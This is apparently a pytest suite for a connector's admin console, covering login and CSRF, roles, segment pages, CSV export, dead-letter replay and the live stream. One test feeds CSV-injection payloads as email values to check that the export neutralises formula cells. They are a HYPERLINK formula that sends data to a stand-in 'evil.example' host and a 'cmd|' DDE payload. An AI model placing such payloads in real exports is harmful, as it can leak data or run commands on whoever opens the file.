"""The console's pages over the admin API (Flask test client, real Redis): login and CSRF, roles,
every page, the CSV export, dead letter replay, the live stream behind the session."""

from __future__ import annotations

import base64
import csv
import json
import re
import time
from pathlib import Path
from typing import Any

import redis

from connector import clock
from connector.config import load_accounts
from connector.ops import audit
from connector.ops.console import views
from connector.profiles import lookup
from connector.sync.deadletters import DeadLetters
from connector.worker import sizes
from tests.ops.api.conftest import Mint
from tests.profile_helpers import apply, ev


def login(api: Any, secret: str) -> Any:
    page = api.get("/console/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.get_data(as_text=True)).group(1)
    return api.post("/console/login", data={"token": secret, "csrf": csrf, "next": ""})


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', html)
    assert found, "no CSRF field in the page"
    return found.group(1)


def test_the_server_s_address_leads_to_the_console(api: Any) -> None:
    res = api.get("/")
    assert res.status_code == 302 and res.headers["Location"].endswith("/console/")
    assert "/console/login" in api.get("/console/").headers["Location"]


def test_pages_need_a_session_and_a_live_token(api: Any, mint: Mint, redis_client: redis.Redis) -> None:
    res = api.get("/console/a/acme/")
    assert res.status_code == 302 and "/console/login" in res.headers["Location"]
    res = login(api, "sc_000000000000_" + "x" * 43)
    assert res.status_code == 401
    assert "not valid" in res.get_data(as_text=True)
    res = login(api, mint("viewer", "acme"))
    assert res.status_code == 302
    cookie = res.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie and "Path=/console" in cookie
    assert api.get("/console/").headers["Location"].endswith("/console/a/acme/")
    # revoking the token ends the session at once
    from connector.ops import tokens

    for token in tokens.tokens(redis_client):
        tokens.revoke(redis_client, token.id)
    assert api.get("/console/a/acme/").status_code == 302


def test_login_without_its_csrf_token_is_refused(api: Any, mint: Mint) -> None:
    res = api.post("/console/login", data={"token": mint("viewer", "acme"), "csrf": "forged"})
    assert res.status_code == 400
    assert "sc_console=" not in res.headers.get("Set-Cookie", "")


def test_another_accounts_pages_are_not_found(api: Any, mint: Mint) -> None:
    login(api, mint("viewer", "acme"))
    res = api.get("/console/a/globex/")
    assert res.status_code == 404
    assert "no account" in res.get_data(as_text=True)
    assert api.get("/console/a/globex/live/stream").status_code == 404


def test_overview_segments_segment_and_person(
    api: Any, mint: Mint, people: dict[str, str], redis_client: redis.Redis
) -> None:
    for email in ("ann@example.com", "bob@example.com"):  # the sizes kept for the API (docs/api.md)
        pipe = redis_client.pipeline()
        sizes.record_transitions(pipe, "acme", ["vip"], [], clock.now(), profile_id=people[email])
        pipe.execute()
    login(api, mint("viewer", "acme"))
    overview = api.get("/console/a/acme/").get_data(as_text=True)
    assert "mailchimp" in overview and "Needs attention" in overview
    segments = api.get("/console/a/acme/segments").get_data(as_text=True)
    assert re.search(r'data-segment="vip">.*?class="num size">2<', segments, re.S)
    assert "<svg" in segments
    vip = api.get("/console/a/acme/segments/vip").get_data(as_text=True)
    assert "ann@example.com" in vip and "bob@example.com" in vip and "cid@example.com" not in vip
    searched = api.get("/console/a/acme/segments/vip?q=bo").get_data(as_text=True)
    assert "bob@example.com" in searched and "ann@example.com" not in searched
    csv_text = api.get("/console/a/acme/segments/vip/members.csv").get_data(as_text=True)
    lines = csv_text.strip().splitlines()
    assert lines[0] == "profile_id,email" and len(lines) == 3
    found = api.get("/console/a/acme/people?email=bob@example.com")
    assert found.headers["Location"].endswith(f"/people/{people['bob@example.com']}")
    page = api.get(found.headers["Location"]).get_data(as_text=True)
    assert "order_completed" in page and "In vip" in page and "entered vip" in page
    assert "Erase this person" not in page  # a viewer may not erase
    assert api.get("/console/a/acme/people?email=nobody@example.com").status_code == 404


def test_the_csv_export_writes_formula_like_cells_as_text(
    api: Any, mint: Mint, api_accounts: Path, redis_client: redis.Redis
) -> None:
    """An email is whatever a sender's write key sent: a cell a spreadsheet would run as a formula
    is written with a leading quote, so it opens as text."""
    emails = [
        '=hyperlink("http://evil.example/?x="&a2,"click")',
        "+1+cmd|' /c calc'!a0@example.com",
        "-2+3@example.com",
        "@sum(1+1)@example.com",
        "plain@example.com",
    ]
    accounts = load_accounts(api_accounts)
    for n, email in enumerate(emails):
        apply(redis_client, accounts, ev(f"x{n}", "order_completed", props={"revenue": 500.0}, email=email))
        pid = lookup(redis_client, "acme", "email", email)
        assert pid is not None, email
        pipe = redis_client.pipeline()
        sizes.record_transitions(pipe, "acme", ["vip"], [], clock.now(), profile_id=pid)
        pipe.execute()
    login(api, mint("viewer", "acme"))
    res = api.get("/console/a/acme/segments/vip/members.csv")
    assert res.status_code == 200
    header, *rows = list(csv.reader(res.get_data(as_text=True).splitlines()))
    assert header == ["profile_id", "email"]
    assert sorted(email for _, email in rows) == sorted(
        [
            '\'=hyperlink("http://evil.example/?x="&a2,"click")',
            "'+1+cmd|' /c calc'!a0@example.com",
            "'-2+3@example.com",
            "'@sum(1+1)@example.com",
            "plain@example.com",
        ]
    )
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_csv_export_is_recorded_once_with_its_number_of_rows(
    api: Any, mint: Mint, people: dict[str, str], redis_client: redis.Redis, monkeypatch: Any
) -> None:
    """Every member's email handed out: one audit entry per export, by the session's token, when
    the stream ends (how many rows were written, whether the last page was), none of their content."""
    for email in ("ann@example.com", "bob@example.com"):
        pipe = redis_client.pipeline()
        sizes.record_transitions(pipe, "acme", ["vip"], [], clock.now(), profile_id=people[email])
        pipe.execute()
    secret = mint("viewer", "acme")
    token_id = secret.split("_")[1]
    login(api, secret)
    lines = api.get("/console/a/acme/segments/vip/members.csv").get_data(as_text=True).strip().splitlines()
    assert len(lines) == 3
    (entry,), _ = audit.read(redis_client, ("acme",))
    assert (entry.action, entry.token, entry.target, entry.accounts) == (
        "segment.export",
        token_id,
        "segment:acme/vip",
        ("acme",),
    )
    assert (entry.before, entry.after) == (None, {"rows": 2, "complete": True})
    logged = json.dumps(entry.as_dict())
    assert all(email not in logged and pid not in logged for email, pid in people.items())
    # a download cut short after its first page (of one row) is recorded with what was written
    monkeypatch.setattr(views, "CSV_PAGE", 1)
    res = api.get("/console/a/acme/segments/vip/members.csv", buffered=False)
    first = next(iter(res.response))
    assert first.count(b"@example.com") == 1
    assert len(audit.read(redis_client, ("acme",))[0]) == 1  # nothing yet: the stream is open
    res.close()
    newest, *_ = audit.read(redis_client, ("acme",))[0]
    assert (newest.action, newest.after) == ("segment.export", {"rows": 1, "complete": False})


def test_a_viewer_cannot_replay_and_an_editor_can(
    api: Any, api_app: Any, mint: Mint, redis_client: redis.Redis
) -> None:
    dead = DeadLetters(redis_client)
    change = {
        "account": "acme",
        "destination": "mailchimp",
        "profile_id": "p1",
        "version": 1,
        "email": "p1@x.test",
    }
    item_id = dead.put(
        "sync:mailchimp", "429 too many requests", {"change": change}, clock.now(), account="acme"
    )
    login(api, mint("viewer", "acme"))
    page = api.get("/console/a/acme/deadletters").get_data(as_text=True)
    assert "429 too many requests" in page and "Replay selected" not in page
    res = api.post("/console/a/acme/deadletters/replay", data={"csrf": csrf_of(page), "ids": [item_id]})
    assert res.status_code == 403
    assert dead.get(item_id) is not None

    editor = api_app.test_client()
    login(editor, mint("editor", "acme"))
    page = editor.get("/console/a/acme/deadletters").get_data(as_text=True)
    assert "Replay selected" in page
    res = editor.post("/console/a/acme/deadletters/replay", data={"ids": [item_id], "csrf": "wrong"})
    assert res.status_code == 400  # CSRF
    res = editor.post("/console/a/acme/deadletters/replay", data={"ids": [item_id], "csrf": csrf_of(page)})
    assert res.status_code == 200, res.get_data(as_text=True)
    assert "1 selected" in res.get_data(as_text=True)
    assert dead.get(item_id) is None


def test_the_live_stream_behind_the_session(api: Any, mint: Mint, redis_client: redis.Redis) -> None:
    from connector.ops import live

    live.Publisher(redis_client).publish(
        "acme", live.refused_entry("shopify", 401, "X-Shopify-Topic header missing")
    )
    login(api, mint("viewer", "acme"))
    page = api.get("/console/a/acme/live").get_data(as_text=True)
    assert 'data-stream="/console/a/acme/live/stream"' in page
    deadline = time.monotonic() + 2
    while not live.latest(redis_client, "acme", 1) and time.monotonic() < deadline:
        time.sleep(0.01)
    body = api.get("/console/a/acme/live/stream?window=1").get_data(as_text=True)
    assert "X-Shopify-Topic header missing" in body


def test_the_live_page_states_the_servers_own_limit_of_deliveries_shown(api: Any, mint: Mint) -> None:
    from connector.ops import live

    login(api, mint("viewer", "acme"))
    publisher = api.application.wsgi_app.observer
    default = publisher.shown_per_second
    assert "Past 20 deliveries a second" in api.get("/console/a/acme/live").get_data(as_text=True)
    try:
        publisher.shown_per_second = 5
        assert "Past 5 deliveries a second" in api.get("/console/a/acme/live").get_data(as_text=True)
        publisher.shown_per_second = live.EVERY_DELIVERY  # CONNECTOR_LIVE_SHOWN_PER_SECOND=0
        page = api.get("/console/a/acme/live").get_data(as_text=True)
        assert "Every delivery is shown" in page and "Past " not in page
    finally:
        publisher.shown_per_second = default


def test_a_crafted_members_cursor_is_an_error_page_not_a_crash(api: Any, mint: Mint) -> None:
    login(api, mint("viewer", "acme"))
    for position in (b'[0,"\\ud800"]', b'[-1,"\\u0661"]'):
        cursor = base64.urlsafe_b64encode(position).decode().rstrip("=")
        page = api.get(f"/console/a/acme/segments/vip?cursor={cursor}")
        assert page.status_code == 422
        assert "invalid cursor" in page.get_data(as_text=True)


def test_a_segment_with_variants_shows_each_variants_value_and_a_person_their_variant(
    api: Any, mint: Mint, api_accounts: Path, redis_client: redis.Redis
) -> None:
    from rules.variants import NAMES
    from tests.conftest import write_accounts
    from tests.ops.api.conftest import acme_file, globex_file

    acme = acme_file()
    acme["rules"]["include"][0] = {"template": "cart_abandonment", "params": {"window": ["24h", "48h"]}}
    write_accounts(api_accounts, acme, globex_file())
    accounts = load_accounts(api_accounts)
    apply(redis_client, accounts, ev("v1", "checkout_started", at=0, email="vic@example.com"))
    pid = lookup(redis_client, "acme", "email", "vic@example.com")
    assert pid is not None
    segment = accounts.get("acme").ruleset.by_name["cart_abandoner"]  # type: ignore[union-attr]
    variant = NAMES[segment.variant_of("acme", pid)]
    from connector.analytics import holdout, movement

    account = accounts.get("acme")
    pipe = redis_client.pipeline()
    for n in range(4):  # entries before the variants (treated), and one per variant
        movement.record_diff(
            pipe, "acme", {}, f"old{n}", ["cart_abandoner"], [], clock.now(), arms={"cart_abandoner": "t"}
        )
        arms = holdout.arms_of(account, f"p{n}", ["cart_abandoner"])
        movement.record_diff(pipe, "acme", {}, f"p{n}", ["cart_abandoner"], [], clock.now(), arms=arms)
    pipe.execute()
    login(api, mint("viewer", "acme"))
    page = api.get("/console/a/acme/segments/cart_abandoner").get_data(as_text=True)
    assert "window = a 24h, b 48h" in page
    assert "Treated not compared: entries made while the segment had no variants." in page
    assert "variant b vs variant a:" in page and "treated vs" not in page
    person = api.get(f"/console/a/acme/people/{pid}").get_data(as_text=True)
    assert re.search(rf"cart_abandoner</strong> <span class=\"pill\">variant {variant}</span>", person)
    assert (
        f"cart_abandoner: OUT (variant {variant})" in person
        or f"cart_abandoner: IN (variant {variant})" in person
    )


def test_an_account_file_refused_on_disk_is_named_on_the_overview_the_rules_page_and_the_api(
    api: Any, mint: Mint, api_accounts: Path
) -> None:
    secret = mint("viewer", "acme")
    before = api.get("/api/v1/accounts/acme", headers={"Authorization": f"Bearer {secret}"}).get_json()
    assert before["file_error"] is None  # served, then broken on disk
    acme = api_accounts / "acme.yaml"
    acme.write_text(acme.read_text().replace("include:", "include: {oops: 1}\n  old_include:", 1))
    detail = api.get("/api/v1/accounts/acme", headers={"Authorization": f"Bearer {secret}"}).get_json()
    problem = detail["file_error"]
    assert (
        problem["file"] == "acme.yaml" and problem["reason"] and str(api_accounts) not in json.dumps(problem)
    )
    assert detail["segments"]  # the last valid version still serves
    assert login(api, secret).status_code == 302
    overview = api.get("/console/a/acme/").get_data(as_text=True)
    assert (
        "The account file acme.yaml is refused" in overview and "last valid version is in force" in overview
    )
    rules = api.get("/console/a/acme/rules").get_data(as_text=True)
    assert "as it is on disk is refused" in rules
